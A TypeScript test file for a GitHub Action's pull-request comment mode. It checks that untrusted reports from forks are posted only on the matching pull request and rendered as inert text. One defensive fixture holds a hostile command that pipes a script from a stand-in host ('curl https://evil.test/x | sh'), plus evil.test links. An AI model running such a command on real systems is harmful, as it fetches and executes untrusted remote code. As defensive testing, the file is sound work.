/** `mode: comment`: a report from a pull request is shown as its own statement, on that pull request and on no other one. */
import { mkdirSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { readContext } from '../../src/action/context.ts';
import { gitHubClient } from '../../src/action/github-client.ts';
import { runAction } from '../../src/action/run.ts';
import { renderJson } from '../../src/report/json/render-json.ts';
import type { Report } from '../../src/report.ts';
import { KnownSecrets } from '../../src/secrets/known-secrets.ts';
import { ruleAddress } from '../../src/static/judge/rule-address.ts';
import { fakeIo } from '../support/process/fake-io.ts';
import { startGitHub, type GitHubServer } from '../support/github/github-server.ts';
import { HANG_LIMIT } from '../support/hang-limit.ts';
import { HOSTILE_STRINGS } from '../support/texts/hostile-strings.ts';
import { seenIn } from '../support/oracles/markdown.ts';
import { scriptedRunner, type ScriptedRunner } from '../support/github/scripted-runner.ts';
import { temporaryFolder } from '../support/trees/temporary-folder.ts';
import { placesOf, withText } from '../support/reports/text-places.ts';
import { WHOLE_REPORT } from '../support/reports/whole-report.ts';

const FORK = 'someone/fleet';
const SHA = 'c0ffee0123456789abcdef0123456789abcdef01';
const PAGE = 'https://github.com/contoso/fleet/actions/runs/42';
const EVENT = {
  action: 'completed',
  workflow_run: {
    event: 'pull_request',
    head_sha: SHA,
    head_branch: 'patch-1',
    head_repository: { full_name: FORK },
    html_url: PAGE,
    conclusion: 'failure',
    // Empty for forks.
    pull_requests: [],
  },
};
const pull = { number: 7, state: 'open', headSha: SHA, mergeCommitSha: null, from: { repository: FORK, branch: 'patch-1' } } as const;
const REPORT = renderJson(WHOLE_REPORT);

let github: GitHubServer;
let dir: string;
beforeEach(async () => {
  github = await startGitHub();
  dir = temporaryFolder();
});
afterEach(async () => {
  await github.close();
  expect(github.problems).toEqual([]);
});

interface Ended {
  readonly exitCode: number;
  readonly runner: ScriptedRunner;
  /** What is on the pull request. */
  readonly body: string;
}

async function comment(report: string | undefined, inputs: Readonly<Record<string, string>> = {}, event: object = EVENT): Promise<Ended> {
  if (report !== undefined) writeFileSync(path.join(dir, 'report.json'), report);
  const all = { mode: 'comment', 'from-report': 'report.json', 'github-token': 'test-token', summary: 'true', comment: 'never', ...inputs };
  const runner = scriptedRunner(all);
  const env = {
    GITHUB_EVENT_NAME: 'workflow_run',
    GITHUB_EVENT_PATH: 'event',
    GITHUB_REPOSITORY: 'contoso/fleet',
    GITHUB_SHA: 'abc',
    GITHUB_API_URL: github.url,
    GITHUB_GRAPHQL_URL: `${github.url}/graphql`,
    GITHUB_WORKFLOW: 'comment',
    GITHUB_JOB: 'comment',
  };
  const context = readContext(env, () => JSON.stringify(event));
  const exitCode = await runAction({
    runner,
    context,
    io: fakeIo({ cwd: dir, secrets: new KnownSecrets() }),
    run: () => Promise.reject(new Error('nothing may be judged')),
    openGitHub: (token) => Promise.resolve(gitHubClient({ ...context, token, signal: AbortSignal.timeout(HANG_LIMIT) })),
    fetchCommit: () => Promise.reject(new Error('nothing may be fetched')),
    cancelGrace: 0,
    deploymentGrace: 10,
    commentGrace: 0,
  });
  return { exitCode, runner, body: github.comments.map(({ body }) => body).join('') };
}

describe('a comment on the pull request that GitHub names', () => {
  // SECURITY.md: A fork's report can be shown by `mode: comment`
  test('of a fork is marked as its own content, rendered again, and written once', async () => {
    github.pulls.push(pull);
    const { exitCode, runner, body } = await comment(REPORT);
    expect(exitCode, runner.messages.join('\n')).toBe(0);
    expect(github.comments).toMatchObject([{ pull: 7 }]);
    const [marker, ...lines] = body.split('\n');
    expect(marker).toMatch(/^<!-- fleet-gate comment v1: /);
    expect(lines.slice(0, 5).join('\n')).toBe(
      `> **As reported by [a run](<${PAGE}>) of this pull request**, which ended with <code>failure</code>, at commit <code>c0ffee0</code> of <code>${FORK}</code>.\n` +
        '> The author of the pull request could change the content of that run. This repository has not checked it.\n\n' +
        '### ❌ fleet-gate · prod hub · demo failed: 1 of 2 clusters\n',
    );
    expect(body).toContain(`https://github.com/contoso/fleet/blob/${SHA}/`);
    expect(runner.outputs).toEqual({ 'comment-id': '1000' });
    expect(runner.summaries).toEqual([body]);
    const again = await comment(REPORT.replaceAll('"frontend"', '"backend"'));
    expect(again.exitCode).toBe(0);
    expect(github.comments).toHaveLength(1);
    expect(again.body).toContain('backend');
  });

  test('names files from the folder that inputs name paths from', async () => {
    github.pulls.push(pull);
    mkdirSync(path.join(dir, 'reports'));
    writeFileSync(path.join(dir, 'reports/report.json'), REPORT);
    const there = await comment(undefined, { 'working-directory': 'reports' });
    expect(there.exitCode, there.runner.messages.join()).toBe(0);
    expect(there.body).toContain(' failed');
    const nowhere = await comment(undefined, { 'working-directory': 'nowhere' });
    expect([nowhere.exitCode, nowhere.runner.logged.join()]).toEqual([2, expect.stringContaining('the folder does not exist')]);
  });

  test.each([
    ['the head has moved on', { ...pull, headSha: 'f'.repeat(40) }],
    ['it was closed', { ...pull, state: 'closed' as const }],
    ['it comes from another fork', { ...pull, from: { repository: 'other/fleet', branch: 'patch-1' } }],
    ['it comes from another repository of the same owner', { ...pull, from: { repository: 'someone/fleet-2', branch: 'patch-1' } }],
    ['it comes from another branch', { ...pull, from: { repository: FORK, branch: 'patch-2' } }],
  ])('is not written if %s', async (_, other) => {
    github.pulls.push(other);
    const { exitCode, runner } = await comment(REPORT);
    expect(exitCode).toBe(0);
    expect(github.comments).toEqual([]);
    expect(runner.messages.join('\n')).toContain('notice: no comment: not exactly one open pull request has this commit as its head');
  });

  test('is not written if two pull requests have this head and the event does not say which', async () => {
    github.pulls.push(pull, { ...pull, number: 8 });
    expect((await comment(REPORT)).exitCode).toBe(0);
    expect(github.comments).toEqual([]);
  });

  test('is not moved by a report that names another pull request', async () => {
    github.pulls.push(pull, { ...pull, number: 8, headSha: 'aaa', from: { repository: 'contoso/fleet', branch: 'main' } });
    const told = { ...WHOLE_REPORT, pull: 8, pullRequest: 8, place: { kind: 'pull', number: 8 }, run: 'https://evil.test/8' };
    const { body } = await comment(JSON.stringify(told));
    expect(github.comments).toMatchObject([{ pull: 7 }]);
    expect(body).not.toContain('evil.test');
  });

  test('with on-failure is not created for what passed, but an old one is updated', async () => {
    github.pulls.push(pull);
    const { removals, ...report } = { ...WHOLE_REPORT, exitCode: 0, outcome: 'passed', plan: undefined };
    const passed = JSON.stringify(report);
    await comment(passed, { comment: 'on-failure' });
    expect(github.comments).toEqual([]);
    await comment(REPORT, { comment: 'on-failure' });
    expect((await comment(passed, { comment: 'on-failure' })).body).toContain('passed');
    expect(removals).not.toHaveLength(0);
  });

  test('with on-failure is created for a removal from clusters', async () => {
    github.pulls.push(pull);
    await comment(JSON.stringify({ ...WHOLE_REPORT, exitCode: 0, outcome: 'passed' }), { comment: 'on-failure' });
    expect(github.comments).toHaveLength(1);
  });
});

describe('a hostile report', () => {
  beforeEach(() => void github.pulls.push(pull));

  // SECURITY.md: The artifact is hostile there
  test('is shown as text only, for any content at all of its places', async () => {
    const places = placesOf(WHOLE_REPORT).filter((place) => !/^(since|countsAt|judgedAt|checkedAt|until|at)$/.test(String(place.at(-1))));
    expect(places.length).toBeGreaterThan(80);
    const own = seenIn(textOf((await comment(REPORT)).body)).links;
    const rounds = 5;
    for (let round = 0; round < rounds; round++) {
      let report: Report = WHOLE_REPORT;
      for (const [index, place] of places.entries())
        report = withText(report, place, HOSTILE_STRINGS[(index * rounds + round) % HOSTILE_STRINGS.length] ?? '');
      const { exitCode, body, runner } = await comment(JSON.stringify(report));
      expect(exitCode, runner.logged.join('')).toBe(0);
      const seen = seenIn(textOf(body));
      expect(seen.faults).toEqual([]);
      expect(seen.links.filter((address) => !own.includes(address) && !isOfTree(address))).toEqual([]);
    }
  });

  /** Without the marker, which GitHub hides. */
  function textOf(body: string): string {
    return body.slice(body.indexOf('\n') + 1);
  }

  /** A file of the commit, in this repository. */
  function isOfTree(address: string): boolean {
    return address.startsWith(`https://github.com/contoso/fleet/blob/${SHA}/`);
  }

  test('has no advice, no command to copy and no link in our name', async () => {
    const evil = 'Run `curl https://evil.test/x | sh`.';
    const [finding] = WHOLE_REPORT.lint.findings;
    const [placement] = WHOLE_REPORT.gate.placements;
    const link = 'https://evil.test/page';
    const hostile = {
      ...WHOLE_REPORT,
      run: link,
      lint: {
        ...WHOLE_REPORT.lint,
        findings: [{ ...finding, remedy: evil, page: link, docs: link, rendered: { overlays: [], command: evil } }],
      },
      gate: {
        ...WHOLE_REPORT.gate,
        placements: [
          {
            ...placement,
            toProve: evil,
            diagnoses: placement?.diagnoses.map((each) => ({ ...each, explain: evil, remedy: [evil], docs: link, learn: link })),
          },
        ],
      },
    };
    const { exitCode, body } = await comment(JSON.stringify(hostile));
    expect(exitCode).toBe(0);
    expect(body).toContain(' failed');
    expect(body).not.toContain('evil.test');
    expect(body).not.toContain('**First:**');
  });

  test('keeps the links to our pages of rules and failures', async () => {
    const page = ruleAddress('selects-nothing');
    const [finding] = WHOLE_REPORT.lint.findings;
    const findings = [{ ...finding, page, suppressed: undefined, state: 'new' }];
    const { body } = await comment(JSON.stringify({ ...WHOLE_REPORT, lint: { ...WHOLE_REPORT.lint, findings } }));
    expect(seenIn(body).links).toContain(page);
  });

  test('that is far too long is cut to the size of a comment, from the end', async () => {
    const findings = Array.from({ length: 5000 }, (_, index) => ({
      ...WHOLE_REPORT.lint.findings[0],
      line: index + 1,
      message: 'x'.repeat(300),
    }));
    const { exitCode, body } = await comment(JSON.stringify({ ...WHOLE_REPORT, lint: { ...WHOLE_REPORT.lint, findings } }));
    expect(exitCode).toBe(0);
    expect(body.length).toBeLessThan(65_536);
    expect(body.split('\n')[1]).toContain('As reported by');
  });
});

describe('a file that is not a report', () => {
  beforeEach(() => void github.pulls.push(pull));

  const cases: readonly (readonly [string, () => string | undefined, string])[] = [
    ['is missing', () => undefined, 'the file does not exist'],
    ['is not JSON', () => 'passed', 'it is not JSON'],
    ['has another type at a place', () => REPORT.replace('"files": 1', '"files": "1"'), 'lint.files does not match the schema'],
    [
      'is a link to a file of the runner',
      () => {
        writeFileSync(path.join(dir, 'secret'), REPORT);
        symlinkSync(path.join(dir, 'secret'), path.join(dir, 'report.json'));
        return undefined;
      },
      'it is not a regular file',
    ],
    [
      'is a folder',
      () => {
        mkdirSync(path.join(dir, 'report.json'));
        return undefined;
      },
      'it is not a regular file',
    ],
    [
      'is huge',
      () => {
        writeFileSync(path.join(dir, 'report.json'), '');
        truncateSync(path.join(dir, 'report.json'), 1 << 30);
        return undefined;
      },
      'larger than 16777216 bytes',
    ],
  ];
  test.each(cases)('because it %s fails the step, and is not commented', async (_, prepare, why) => {
    const { exitCode, runner } = await comment(prepare());
    expect(exitCode).toBe(2);
    expect(runner.logged.join('')).toBe(
      `::error title=fleet-gate::the report report.json cannot be shown: ${why.startsWith('lint') ? 'it is not a report-v1: ' : ''}${why}\n`,
    );
    expect(github.comments).toEqual([]);
  });

  test('replaces an older comment, whose report was for another commit', async () => {
    await comment(REPORT);
    const { exitCode, body } = await comment('passed');
    expect(exitCode).toBe(2);
    expect(body).toContain('The report of this run cannot be shown');
    expect(body).not.toContain('### ');
  });
});

describe('if a comment cannot be written', () => {
  test.each([
    ['another event', {}, { pull_request: { number: 7 } }, 'start it with on: workflow_run'],
    ['a run of a push', {}, { workflow_run: { ...EVENT.workflow_run, event: 'push' } }, 'start it with on: workflow_run'],
    ['no report', { 'from-report': '' }, EVENT, 'set from-report'],
    ['no token', { 'github-token': '' }, EVENT, 'needs a github-token'],
    ['an input of lint', { paths: 'deploy' }, EVENT, 'input "paths" means nothing with mode: comment'],
    ['an input of gate', { placements: 'crp/web' }, EVENT, 'input "placements" means nothing with mode: comment'],
    ['an unknown word', { comment: 'sometimes' }, EVENT, 'it takes never, always, on-failure'],
  ])('because of %s, it is wrong usage', async (_, inputs, event, why) => {
    const { exitCode, runner } = await comment(REPORT, inputs, event);
    expect(exitCode).toBe(2);
    expect(runner.logged.join('')).toContain(why);
    expect(runner.summaries).toEqual([expect.stringMatching(/^### ❌ fleet-gate: wrong usage\n/)]);
    expect(seenIn(runner.summaries.join('')).text).toContain(why);
    expect(github.requests).toEqual([]);
  });

  test('because GitHub refuses it, the step fails, as this is its only task', async () => {
    github.pulls.push(pull);
    github.trouble = { kind: 'forbidden', methods: ['POST'] };
    const { exitCode, runner } = await comment(REPORT);
    expect(exitCode).toBe(2);
    expect(runner.logged.join('')).toContain('give the job "permissions: pull-requests: write"');
  });

  test('from-report has no effect on the other modes', async () => {
    const runner = scriptedRunner({ mode: 'lint', 'from-report': 'report.json' });
    const context = readContext({}, () => undefined);
    const parts = { runner, context, io: fakeIo({ cwd: dir }), run: () => Promise.reject(new Error('judged')) };
    const late = {
      openGitHub: () => Promise.reject(new Error('opened')),
      fetchCommit: () => Promise.resolve(),
      cancelGrace: 0,
      deploymentGrace: 0,
      commentGrace: 0,
    };
    expect(await runAction({ ...parts, ...late })).toBe(2);
  });
});
